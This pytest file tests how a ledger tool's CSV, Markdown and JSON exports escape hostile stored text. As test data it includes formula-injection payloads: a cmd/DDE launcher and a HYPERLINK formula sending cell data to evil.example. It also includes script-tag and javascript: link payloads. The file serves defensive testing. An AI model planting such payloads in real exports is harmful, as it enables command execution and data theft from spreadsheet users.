"""Exports and reports against hostile stored text, read back by what would read them: the csv
module as a spreadsheet gets the cells, a Markdown renderer, a strict JSON parser."""

from __future__ import annotations

import csv
import io
import json

import pytest

import hostile
from ledger import escape

RUNS_AS_FORMULA = tuple("=+-@\t\r")  # what Excel, LibreOffice and Google Sheets evaluate
ROUND_TRIP = ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'=1", "''+2", "'plain", "a=b"]


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_export_guards_every_risky_cell_and_import_gives_the_text_back(cli, db_url, tmp_path):
    hostile.fill(cli, db_url, tmp_path, resolve=True)
    out = tmp_path / "export.csv"
    assert cli("export", "--out", out).status == 0
    exported = rows(out.read_bytes().decode("utf-8"))
    assert len(exported) == len(hostile.TEXTS)
    for row in exported:
        for column, cell in row.items():
            assert not cell.startswith(RUNS_AS_FORMULA), (column, cell)
    guarded = {row["text"] for row in exported}
    assert {"'=HYPERLINK(\"http://evil.example/\"&A1)", "'-2+3", "'@SUM(A1:A9)", "'\t=1", "'\r=1", "''=1"} <= guarded
    raw = rows(cli("export", "--raw").out)  # the opt-out: cells as stored
    assert {row["text"] for row in raw} == set(hostile.TEXTS)


def test_an_export_read_back_is_the_original_text(cli, tmp_path):
    source = tmp_path / "risky.jsonl"  # JSON Lines: stored exactly as written
    with source.open("w", encoding="utf-8") as handle:
        for n, text in enumerate(ROUND_TRIP):
            handle.write(json.dumps({"speaker": f"{text} {n}", "text": text, "said": "2020-01-01", "deadline": "2021-06-30",
                                     "quote": text, "tags": [f"{text}{n}"], "confidence": text, "probability": 0.25,
                                     "source_url": f"https://example.org/{n}", "source_title": text}) + "\n")
    assert cli("import", source).status == 0
    stored = cli("list", "--json").json
    assert sorted(c["text"] for c in stored) == sorted(ROUND_TRIP)

    first = tmp_path / "first.csv"
    assert cli("export", "--out", first).status == 0
    again = cli("import", first, "--json")  # every claim found again: its text came back the same
    assert again.status == 0 and again.json["claims_added"] == 0 and again.json["claims_present"] == len(ROUND_TRIP)
    second = tmp_path / "second.csv"
    assert cli("export", "--out", second).status == 0
    assert second.read_bytes() == first.read_bytes()

    exported = rows(first.read_bytes().decode("utf-8"))
    assert {r["text"] for r in exported} == {"'=1+1", "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "''=1", "'''+2", "'plain", "a=b"}
    assert {r["probability"] for r in exported} == {"0.25"}  # a number stays a number

    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"  # and into an empty ledger: the same texts
    assert cli("import", first, db=fresh).status == 0
    assert [(c["speaker"], c["text"]) for c in cli("list", "--json", db=fresh).json] == [(c["speaker"], c["text"]) for c in stored]


@pytest.fixture
def resolved(cli, db_url, tmp_path):
    """The hostile ledger, every claim resolved true on time: each speaker has a scored record."""
    return hostile.fill(cli, db_url, tmp_path, resolve=True)


def test_report_and_leaderboard_csv_guard_text_and_keep_numbers(resolved, cli):
    for command in (["report", "--format", "csv"], ["report", "--leaderboard", "--min-resolved", "0", "--format", "csv"]):
        result = cli(*command)
        assert result.status == 0, result.err
        table = rows(result.out)
        assert {r["speaker"] for r in table} >= {"'=HYPERLINK(\"http://evil.example/\"&A1)", "'@SUM(A1:A9)", "''=1"}
        for row in table:
            for column, cell in row.items():
                assert not cell.startswith(RUNS_AS_FORMULA) or float(cell) < 0, (column, cell)
        raw = rows(cli(*command, "--raw").out)
        assert {r["speaker"] for r in raw} >= set(hostile.FORMULAS)
        for row in table:  # every figure is still a number a spreadsheet reads as one
            for column, cell in row.items():
                if column not in ("speaker", "as_of", "policy", "prior_method", "tied", "headline", "group") and cell:
                    float(cell)


def test_the_formula_guard_leaves_numbers_alone():
    assert escape.csv_cell(-0.25) == -0.25 and escape.csv_cell(-3) == -3  # numbers, never text
    assert escape.csv_cell("-3") == "'-3"  # a text cell that a spreadsheet would compute
    for text in ["=1", "'=1", "''@x", "'plain", "plain", "", "-", "a-b"]:
        assert escape.csv_uncell(escape.csv_cell(text)) == text


def test_markdown_reports_carry_no_html_and_no_link_from_stored_text(resolved, cli):
    # markdown-it-py is in the test extra; a checkout installed before it was added skips this.
    markdown_it = pytest.importorskip("markdown_it")
    renderer = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")  # raw HTML on: the worst case
    for command in (["report", "--format", "markdown"], ["report", "--leaderboard", "--min-resolved", "0", "--format", "markdown"]):
        result = cli(*command)
        assert result.status == 0, result.err
        page = renderer.render(result.out)
        assert "<script" not in page and "<img" not in page and "javascript:" not in page.replace("javascript:alert", "")
        assert "<a " not in page and "<em>bold" not in page and "<em>em" not in page and "<code>" not in page
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # the name is still there, as text
        assert "[click](javascript:alert(1))" in page and "*bold* _em_ `code` | pipe" in page


def test_json_is_strict_json_and_an_infinite_half_life_is_one_line(resolved, cli, db_url):
    def strict(text: str):
        def refuse(name):
            raise AssertionError(f"{name} in JSON")
        return json.loads(text, parse_constant=refuse)

    for command in (["list", "--json"], ["report", "--format", "json"], ["report", "--leaderboard", "--min-resolved", "0", "--format", "json"],
                    ["report", "--policy", "decay", "--half-life", "1e-300", "--format", "json"], ["due", "--json"]):
        result = cli(*command)
        assert result.status == 0, (command, result.err)
        strict(result.out)
        assert not any(0x7F <= ord(ch) <= 0x9F for ch in result.out)  # C1 controls are \u escapes
    assert hostile.TERMINAL[2] in {c["text"] for c in strict(cli("list", "--json").out)}  # and decode as stored
    for line in cli("export", "--format", "jsonl").out.splitlines():
        strict(line)
    for bad in ("inf", "nan", "-inf"):
        result = cli("report", "--policy", "decay", "--half-life", bad, "--format", "json")
        assert result.status == 2 and result.out == "" and len(result.err.strip().splitlines()) == 1, (bad, result)
        assert "half-life must be a positive number of days" in result.err


@pytest.mark.parametrize("stored", ["del\x7fete </script>", "é del\x7f </script> \u2028 \u202e", "plain ascii", "\x9b2J"])
def test_json_writes_every_unsafe_character_as_an_escape_and_decodes_to_the_text(stored):
    from ledger.escape import json_text

    written = json_text({"text": stored})
    assert json.loads(written) == {"text": stored}
    assert "</" not in written and not any(0x7F <= ord(ch) <= 0x9F or ch in "\u2028\u2029\u202e" for ch in written)
